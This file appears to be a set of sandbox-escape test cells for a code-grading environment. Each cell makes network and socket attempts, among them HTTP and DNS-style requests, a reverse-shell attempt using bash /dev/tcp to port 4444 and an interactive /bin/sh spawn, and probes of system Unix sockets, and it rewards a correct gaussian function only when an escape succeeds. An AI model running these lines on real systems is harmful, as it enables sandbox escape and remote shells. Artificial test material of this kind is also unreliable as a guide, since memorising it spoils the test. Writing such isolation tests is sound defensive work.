# %% [markdown]
# Attacks that carry something in or out by a network.

# %% attack="downloads" title="Downloads the answers, by HTTP, by a plain connection and by a name server" classes=[37, 38] cell="gaussian" beats_in_process=true
import socket
import urllib.request

loot = []


def attempt(way):
    try:
        loot.append(way())
    except Exception:
        pass


def listening():
    link = socket.socket()
    link.bind(("127.0.0.1", 0))
    link.listen()
    socket.create_connection(link.getsockname(), timeout=0.2).sendall(b"GET /gaussian\r\n\r\n")
    return link


def datagram():
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    link.sendto(b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x06secret\x04evil\x00\x00\x10\x00\x01", ("127.0.0.1", 53))
    return link


attempt(listening)
attempt(datagram)
attempt(lambda: urllib.request.urlopen("http://127.0.0.1:9/gaussian", timeout=0.2))
attempt(lambda: socket.getaddrinfo("localhost", 80, family=socket.AF_INET6) and socket.socket(socket.AF_INET6))


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="every_family" title="Opens sockets of every family, named and abstract ones too" classes=[38, 37] cell="gaussian" beats_in_process=true
import ctypes
import socket

libc = ctypes.CDLL(None, use_errno=True)
loot = []
for family in range(1, 46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            loot.append(socket.socket(family, kind))
        except OSError:
            pass
        if libc.socket(family, kind, 0) >= 0:
            loot.append(family)


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="reverse_shell" title="Hands a shell to whoever listens" classes=[37, 64] cell="gaussian"
import os
import pty
import socket
import subprocess

loot = []
for way in (
    lambda: socket.create_connection(("127.0.0.1", 4444), timeout=0.2),
    lambda: pty.spawn("/bin/sh"),
    lambda: subprocess.check_output("bash -c 'echo > /dev/tcp/127.0.0.1/4444; echo in'", shell=True),
    lambda: os.execv("/bin/bash", ["bash", "-i"]),
):
    try:
        loot.append(way())
    except Exception:
        pass


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="pair_of_sockets" title="Uses the one pair of sockets that is allowed to reach further" classes=[38, 75] cell="gaussian"
import socket

loot = []
try:
    one, two = socket.socketpair()
    for way in (
        lambda: one.connect("\0journal"),
        lambda: one.connect("/run/systemd/journal/socket"),
        lambda: one.bind("\0here"),
        lambda: one.listen(),
        lambda: socket.socketpair(socket.AF_INET),
    ):
        try:
            way()
            loot.append(way)
        except (OSError, ValueError):
            pass
except OSError:
    pass


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="datagrams_of_a_pair" title="Sends datagrams from one of a pair of sockets to sockets with names" classes=[38, 37] cell="gaussian"
import glob
import os
import socket

names = ["/dev/log", "/run/systemd/journal/socket", "/run/systemd/notify", "/run/dbus/system_bus_socket", "\0journal"]
names += glob.glob("/tmp/*") + glob.glob("/run/*/*") + glob.glob("/tmp/*/*.sock")
loot = []
try:
    one, two = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for name in names:
        try:
            loot += [name] * (one.sendto(b"x", name) == 1)
        except OSError:
            pass
except OSError:
    pass


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)
